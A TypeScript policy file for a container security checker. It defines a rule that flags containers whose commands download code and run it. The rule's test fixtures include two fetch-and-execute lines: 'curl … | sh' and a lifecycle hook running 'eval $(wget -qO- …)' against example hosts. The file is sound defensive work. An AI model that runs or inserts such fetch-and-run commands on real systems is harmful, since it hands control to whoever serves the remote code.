import { commandsOf, container, deedsOf, definePolicy } from "../../core/policy";

const running = (script: string) => container({ command: ["/bin/sh", "-c"], args: [script] });

export default definePolicy({
  name: "disallow-downloaded-code",
  displayName: "Containers run no code that they fetch",
  description:
    "A command that fetches code and runs it makes whoever holds that address, or the path to it, master of the container: what runs was never checked, signed or pinned.",
  severity: "critical",
  enforcementLevel: "mandatory",
  controls: ["nist-800-190:4.1.5", "nist-800-190:4.4.4"],
  requirements: [65],
  remediationSteps: "Put the program into the image, and the image through the pipeline.",
  appliesTo: "Container",
  check({ node, report }) {
    for (const { what, path } of deedsOf(node, "remote code"))
      report(`fetches code and runs it (${what})`, path);
    for (const { path, missing } of commandsOf(node).unknowns) report.unknown(path, missing);
  },
  good: () => ({
    "a harmless script": running("curl -fsS http://localhost:8080/health"),
    "the image's own command": container(),
  }),
  bad: () => ({
    "in a shell": running("curl -fsSL https://get.example.com | sh"),
    "a hook": container({
      lifecycle: {
        postStart: { exec: { command: ["sh", "-c", "eval $(wget -qO- https://x.example.com)"] } },
      },
    }),
  }),
});
